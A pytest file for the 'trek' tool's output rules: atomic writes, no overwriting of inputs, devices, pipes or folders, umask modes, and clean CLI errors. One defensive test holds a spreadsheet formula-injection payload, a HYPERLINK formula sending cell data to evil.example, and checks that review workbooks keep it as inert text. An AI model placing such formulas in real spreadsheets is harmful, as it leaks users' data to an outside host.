"""The one output rule (:mod:`trek.outputs`): never over an input, a device, a pipe or a folder;
all or nothing (a failed write leaves the previous file and no temporary file); modes follow the
umask. Checked on the library helpers and on every command that writes a user-named file."""

from __future__ import annotations

import errno
import os
import stat
import zipfile
from pathlib import Path

import pytest
from _package import walk_file
from typer.testing import CliRunner

from trek import outputs, runs
from trek.cli import app
from trek.outputs import OutputError, atomic_write, check_out
from trek.trace.records import TraceRecord
from trek.trace.review import write_review
from trek.types import read_jsonl, write_jsonl

runner = CliRunner()


def trek(*args: str):
    return runner.invoke(app, [str(a) for a in args])


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


@pytest.fixture
def fifo(tmp_path):
    p = tmp_path / "pipe"
    os.mkfifo(p)
    return p


@pytest.fixture
def no_space(monkeypatch):
    """Every write of a file's content fails as on a full disk (``os.write`` raises ENOSPC)."""
    def full(fd, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "write", full)


@pytest.fixture
def read_only(monkeypatch, tmp_path):
    """A folder in which no file can be created (a real read-only folder; as root, where
    permissions do not bind, creating a file there fails with EACCES as it would)."""
    d = tmp_path / "ro"
    d.mkdir()
    (d / "old.jsonl").write_text('{"a": 1}\n')
    if os.geteuid() != 0:
        d.chmod(0o555)
        yield d
        d.chmod(0o755)
        return
    real_open = os.open

    def guarded(path, flags, *a, **kw):
        if Path(path).parent == d and flags & os.O_CREAT:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        return real_open(path, flags, *a, **kw)

    monkeypatch.setattr(os, "open", guarded)
    yield d


# -- the helpers ------------------------------------------------------------------------------------
@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_written_files_follow_the_umask(tmp_path, umask, mode):
    old = os.umask(umask)
    try:
        a = write_jsonl(tmp_path / "a.jsonl", [{"x": 1}])
        b = write_jsonl(tmp_path / "b.jsonl.gz", [{"x": 1}])
        c = atomic_write(tmp_path / "c.txt", "text")
        d = runs.write_meta(tmp_path, runs.RunMeta(run_id="r", kind="wild"))
    finally:
        os.umask(old)
    for p in (a, b, c, d):
        assert stat.S_IMODE(p.stat().st_mode) == mode, p


def test_write_jsonl_refuses_a_pipe_a_folder_and_a_path_under_a_file(tmp_path, fifo):
    (tmp_path / "dir").mkdir()
    (tmp_path / "file").write_text("x")
    for target, why in [(fifo, "is a pipe"), (tmp_path / "dir", "is a folder"),
                        (tmp_path / "file" / "a.jsonl", "is a file, not a folder")]:
        with pytest.raises(OutputError, match=why):
            write_jsonl(target, [{"x": 1}])
    assert stat.S_ISFIFO(fifo.stat().st_mode)  # still the pipe, not a regular file
    assert leftovers(tmp_path) == []


def test_write_jsonl_never_replaces_a_device():
    with pytest.raises(OutputError, match="is a device"):
        write_jsonl("/dev/null", [{"x": 1}])
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_full_disk_keeps_the_previous_file_and_no_temporary(tmp_path, no_space):
    p = tmp_path / "a.jsonl"
    p.write_text('{"x": 1}\n')
    with pytest.raises(OutputError, match=r"a\.jsonl: cannot be written \(no space left on the device\)"):
        write_jsonl(p, [{"x": 2}])
    assert p.read_text() == '{"x": 1}\n'
    assert leftovers(tmp_path) == []


def test_install_file_puts_a_finished_file_in_place_and_never_over_a_device(tmp_path):
    done = tmp_path / ".made.tmp"
    done.write_bytes(b"new")
    target = tmp_path / "made.ipynb"
    target.write_bytes(b"old")
    assert outputs.install_file(done, target) == target and target.read_bytes() == b"new" and not done.exists()
    done.write_bytes(b"x")
    with pytest.raises(OutputError, match="is a device"):
        outputs.install_file(done, "/dev/null")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_staged_folder_replaces_the_old_one_whole_or_not_at_all(tmp_path):
    out = tmp_path / "run"
    out.mkdir()
    (out / "old.txt").write_text("old")
    with pytest.raises(RuntimeError), outputs.staged_folder(out) as tmp:
        (tmp / "new.txt").write_text("half")
        raise RuntimeError("interrupted")
    assert sorted(p.name for p in out.iterdir()) == ["old.txt"]  # untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]  # no temporary folder left
    with outputs.staged_folder(out) as tmp:
        (tmp / "new.txt").write_text("whole")
        assert (out / "old.txt").exists()  # readers see the old folder until the swap
    assert sorted(p.name for p in out.iterdir()) == ["new.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]
    assert stat.S_IMODE(out.stat().st_mode) == outputs.folder_mode()


def test_files_reach_their_place_only_through_the_output_module():
    # one atomic writer: no other module of trek/ renames files into place or syncs them
    # (the journal syncs its appends; it never renames)
    import ast

    root = Path(outputs.__file__).parent
    found = []
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if rel == "outputs.py":
            continue
        for node in walk_file(path):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            f, name = node.func, node.func.attr
            owner = f.value.id if isinstance(f.value, ast.Name) else None
            if (owner == "os" and name in ("replace", "rename", "renames")) or (owner == "shutil" and name == "move") \
                    or (name == "fsync" and rel != "journal.py") or name == "rename":
                found.append(f"{rel}:{node.lineno} {owner or '...'}.{name}")
    assert found == [], "move a finished file in with trek.outputs (atomic_write, install_file, staged_folder)"


def test_read_only_folder_is_named(read_only):
    with pytest.raises(OutputError, match=r"old\.jsonl: cannot be written \(Permission denied\)"):
        write_jsonl(read_only / "old.jsonl", [{"x": 2}])
    assert (read_only / "old.jsonl").read_text() == '{"a": 1}\n'


def test_check_out_refuses_inputs_and_run_records(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    (run / "grades.jsonl").write_text("")
    req = tmp_path / "req.jsonl"
    req.write_text("")
    with pytest.raises(OutputError, match="a file this command reads"):
        check_out(req, reads=[req])
    with pytest.raises(OutputError, match="a file this command reads"):
        check_out(tmp_path / "x" / ".." / "req.jsonl", reads=[req])
    for name in ("grades.jsonl", "trace.jsonl", "run.json", "llm-cache.sqlite"):
        with pytest.raises(OutputError, match="records of"):
            check_out(run / name, runs=[run])
    assert check_out(run / "trace.html", runs=[run]) == run / "trace.html"
    assert check_out(tmp_path / "new" / "deep.jsonl", reads=[req]) == tmp_path / "new" / "deep.jsonl"


def test_check_folder_out(tmp_path):
    (tmp_path / "f").write_text("x")
    with pytest.raises(OutputError, match="must be a folder"):
        outputs.check_folder_out(tmp_path / "f")
    with pytest.raises(OutputError, match="is a file, not a folder"):
        outputs.check_folder_out(tmp_path / "f" / "sub")
    pools = tmp_path / "out" / "pools.jsonl"
    pools.parent.mkdir()
    pools.write_text("")
    with pytest.raises(OutputError, match="its pools.jsonl"):
        outputs.check_folder_out(tmp_path / "out", reads=[pools], writes=["pools.jsonl"])


# -- trek trace review / view ------------------------------------------------------------------------
def record(qid: str, **kw) -> TraceRecord:
    base = dict(question_id=qid, dataset="freshqa", question=f"Question {qid}?", answers=["A"],
                prediction="wrong", original_outcome="incorrect", status="done", labels=["Retrieval"])
    return TraceRecord(**{**base, **kw})


@pytest.fixture
def traced(tmp_path):
    run = tmp_path / "run"
    write_jsonl(run / runs.TRACE, [record("q1"), record("q2")])
    (run / runs.GRADES).write_text("")
    return run


@pytest.mark.parametrize("cmd", ["review", "view"])
def test_trace_outputs_never_overwrite_the_runs_records(traced, cmd):
    before = {p.name: p.read_bytes() for p in traced.iterdir()}
    for name in (runs.TRACE, runs.GRADES, "answers.jsonl"):
        r = trek("trace", cmd, traced, "--out", traced / name)
        assert r.exit_code == 2, r.output
        assert "records of" in r.output and "Traceback" not in r.output
    assert {p.name: p.read_bytes() for p in traced.iterdir()} == before


@pytest.mark.parametrize("cmd", ["review", "view"])
def test_trace_outputs_refuse_folders_devices_pipes_and_paths_under_a_file(traced, tmp_path, fifo, cmd):
    folder = tmp_path / "folder"
    folder.mkdir()
    (tmp_path / "file").write_text("x")
    cases = [(folder, "is a folder"), ("/dev/null", "is a device"), (fifo, "is a pipe"),
             (tmp_path / "file" / "out.x", "is a file, not a folder")]
    for out, why in cases:
        r = trek("trace", cmd, traced, "--out", out)
        assert r.exit_code == 2 and why in r.output, (out, r.output)
        assert r.exception is None or isinstance(r.exception, SystemExit)
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode) and stat.S_ISFIFO(fifo.stat().st_mode)
    assert list(folder.iterdir()) == [] and leftovers(tmp_path) == []


@pytest.mark.parametrize("cmd, name", [("review", "review.xlsx"), ("view", "trace.html")])
def test_trace_outputs_in_a_read_only_folder_or_on_a_full_disk(traced, read_only, cmd, name, monkeypatch):
    r = trek("trace", cmd, traced, "--out", read_only / name)
    assert r.exit_code == 2 and "cannot be written (Permission denied)" in r.output, r.output
    assert leftovers(read_only) == []
    out = traced.parent / name
    out.write_bytes(b"previous")
    monkeypatch.setattr(os, "write", lambda fd, data: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
    r = trek("trace", cmd, traced, "--out", out)
    assert r.exit_code == 2 and "no space left on the device" in r.output, r.output
    assert out.read_bytes() == b"previous" and leftovers(traced.parent) == []


# -- the review workbook holds text, never formulas ---------------------------------------------------
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&C2,"click")'


def test_review_cells_are_text_not_formulas(tmp_path):
    run = tmp_path / "run"
    write_jsonl(run / runs.TRACE, [record("q1", prediction=HYPERLINK, key_evidence="=1+1",
                                          question="@SUM(A1)\x07 bell", evidence_reason="-2+3")])
    path = write_review(run)
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no cell of any sheet is a formula
    from openpyxl import load_workbook

    ws = load_workbook(path)["checklist"]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert row["prediction"].value == HYPERLINK and row["prediction"].data_type == "s"
    assert row["prediction"].quotePrefix and row["key evidence"].quotePrefix
    assert row["question"].value == "@SUM(A1)\ufffd bell"  # a control character a workbook cannot hold


def test_review_cuts_text_longer_than_a_cell_holds(tmp_path):
    from trek.trace.review import CELL_CHARS

    run = tmp_path / "run"
    write_jsonl(run / runs.TRACE, [record("q1", prediction="x" * 40_000)])
    from openpyxl import load_workbook

    ws = load_workbook(write_review(run))["checklist"]
    value = ws.cell(row=2, column=[c.value for c in ws[1]].index("prediction") + 1).value
    assert len(value) == CELL_CHARS and value.endswith("cut: Excel holds at most 32,767 characters in a cell]")


# -- trek trace agreement on files that are not workbooks -----------------------------------------------
def test_agreement_on_files_that_are_not_review_workbooks(traced, tmp_path):
    wb = write_review(traced, tmp_path / "review.xlsx")
    bad = {
        "text.xlsx": b"not a workbook\n",
        "cut.xlsx": wb.read_bytes()[:3000],
        "trace.jsonl": (traced / runs.TRACE).read_bytes(),
    }
    damaged = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(wb) as src, zipfile.ZipFile(damaged, "w") as dst:
        for n in src.namelist():
            data = src.read(n)
            dst.writestr(n, data[: len(data) // 2] if "sheet1" in n else data)
    for name, data in bad.items():
        (tmp_path / name).write_bytes(data)
    for path in [*(tmp_path / n for n in bad), damaged, tmp_path]:
        r = trek("trace", "agreement", path)
        assert r.exit_code == 2, (path, r.output)
        assert str(path) in r.output and ("workbook" in r.output or "folder" in r.output), r.output
        assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert read_jsonl(traced / runs.TRACE, TraceRecord)  # untouched


# -- trek ctrl build / run / discover / audit ---------------------------------------------------------
def test_ctrl_build_out_must_be_a_folder_it_can_write(tmp_path, read_only, monkeypatch):
    (tmp_path / "file").write_text("x")
    for out, why in [(tmp_path / "file", "--out must be a folder; this is a file"),
                     (tmp_path / "file" / "sub", "is a file, not a folder")]:
        r = trek("ctrl", "build", "--out", out, "--no-tokens", "--questions", "mini:01")
        assert r.exit_code == 2 and why in r.output, r.output
        assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert (tmp_path / "file").read_text() == "x"
    r = trek("ctrl", "build", "--out", read_only, "--no-tokens", "--questions", "mini:01")
    assert r.exit_code == 2 and "cannot be written (Permission denied)" in r.output, r.output
    assert leftovers(read_only) == []
    out = tmp_path / "build"
    assert trek("ctrl", "build", "--out", out, "--no-tokens", "--questions", "mini:01").exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    monkeypatch.setattr(os, "write", lambda fd, data: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
    r = trek("ctrl", "build", "--out", out, "--no-tokens", "--questions", "mini:01,mini:02")
    assert r.exit_code == 2 and "cannot be written (no space left on the device)" in r.output, r.output
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before and leftovers(out) == []


def test_ctrl_build_never_writes_over_the_pools_it_reads(tmp_path):
    out = tmp_path / "build"
    assert trek("ctrl", "build", "--out", out, "--no-tokens", "--questions", "mini:01").exit_code == 0
    pools = (out / "pools.jsonl").read_bytes()
    r = trek("ctrl", "build", "--source", "pools", "--pools", out / "pools.jsonl", "--out", out, "--no-tokens")
    assert r.exit_code == 2 and "a file this command reads" in r.output, r.output
    assert (out / "pools.jsonl").read_bytes() == pools
    r = trek("ctrl", "build", "--source", "pools", "--pools", out / "pools.jsonl", "--out", tmp_path / "b2",
             "--no-tokens")
    assert r.exit_code == 0, r.output


def test_ctrl_build_with_a_rejected_key_is_a_clear_error(tmp_path, monkeypatch):
    from trek.testing.fake_openai import FakeOpenAIServer

    monkeypatch.setenv("OPENAI_API_KEY", "wrong")
    with FakeOpenAIServer(require_key="right") as srv:
        r = trek("ctrl", "build", "--out", tmp_path / "b", "--no-tokens", "--questions", "mini:01",
                 "--model", "m", "--fabricator", "model", "--base-url", srv.base_url)
    assert r.exit_code == 2 and "401 from" in r.output and "check the API key" in r.output, r.output
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert "wrong" not in r.output


def test_ctrl_run_runs_must_be_a_folder(tmp_path):
    build = tmp_path / "build"
    assert trek("ctrl", "build", "--out", build, "--no-tokens", "--questions", "mini:01").exit_code == 0
    (tmp_path / "file").write_text("x")
    for runs_, why in [(tmp_path / "file", "--runs must be a folder"), (tmp_path / "file" / "g", "is a file")]:
        r = trek("ctrl", "run", build / "contexts.jsonl", "--model", "m", "--runs", runs_,
                 "--base-url", "http://127.0.0.1:9/v1", "--no-progress")
        assert r.exit_code == 2 and why in r.output, r.output
        assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    assert (tmp_path / "file").read_text() == "x"


def test_ctrl_discover_out_is_not_the_pools_it_extends(tmp_path):
    build = tmp_path / "build"
    assert trek("ctrl", "build", "--out", build, "--no-tokens", "--questions", "mini:01").exit_code == 0
    pools = build / "pools.jsonl"
    before = pools.read_bytes()
    for out, why in [(pools, "a file this command reads"), (build, "is a folder"), ("/dev/null", "is a device")]:
        r = trek("ctrl", "discover", "--source", "pools", "--pools", pools, "--out", out, "--model", "m",
                 "--base-url", "http://127.0.0.1:9/v1")
        assert r.exit_code == 2 and why in r.output, r.output
    assert pools.read_bytes() == before


def test_ctrl_audit_of_a_missing_folder(tmp_path):
    r = trek("ctrl", "audit", tmp_path / "nothing")
    assert r.exit_code == 2 and "no Ctrl build folder" in r.output
    assert r.exception is None or isinstance(r.exception, SystemExit)


# -- every file a command writes follows the umask ----------------------------------------------------
def test_run_files_of_wild_run_and_import_follow_the_umask(tmp_path, monkeypatch):
    from trek.imports import import_run, parse_mapping
    from trek.testing.fake_openai import FakeOpenAIServer

    ex = Path(__file__).resolve().parents[1] / "examples"
    for var in ("TREK_CACHE", "TREK_SEARCH_CACHE", "TREK_PAGES", "OPENAI_BASE_URL"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", "k")
    old = os.umask(0o022)
    try:
        with FakeOpenAIServer() as srv:
            r = trek("wild", "run", "--model", "m", "--base-url", srv.base_url, "--run", tmp_path / "wild",
                     "--questions", "mini", "--search", "none", "--limit", "2", "--no-progress")
            assert r.exit_code == 0, r.output
        import_run("chat-completions", [ex / "chat-completions.jsonl"], tmp_path / "imported",
                   questions=ex / "questions.csv",
                   mapping=parse_mapping("id=qid,question=text,answers=gold,gold_urls=sources,effective_year=year"))
    finally:
        os.umask(old)
    for run in (tmp_path / "wild", tmp_path / "imported"):
        assert stat.S_IMODE(run.stat().st_mode) == 0o755, run
        files = [p for p in run.iterdir() if p.is_file() and p.suffix in (".jsonl", ".json")]
        assert files
        for p in files:
            assert stat.S_IMODE(p.stat().st_mode) == 0o644, p


def test_schema_out_follows_the_output_rule(tmp_path, fifo):
    (tmp_path / "folder").mkdir()
    for out, why in [(tmp_path / "folder", "is a folder"), ("/dev/full", "is a device"), (fifo, "is a pipe")]:
        r = trek("schema", "--out", out)
        assert r.exit_code == 2 and why in r.output, r.output
        assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    r = trek("schema", "--out", tmp_path / "s.json")
    assert r.exit_code == 0 and (tmp_path / "s.json").read_text().startswith("{")


def test_wild_run_run_must_be_a_folder(tmp_path):
    (tmp_path / "file").write_text("x")
    r = trek("wild", "run", "--model", "m", "--run", tmp_path / "file", "--questions", "mini", "--search", "none",
             "--base-url", "http://127.0.0.1:9/v1", "--no-progress")
    assert r.exit_code == 2 and "--run must be a folder" in r.output, r.output
    assert (tmp_path / "file").read_text() == "x" and sorted(p.name for p in tmp_path.iterdir()) == ["file"]
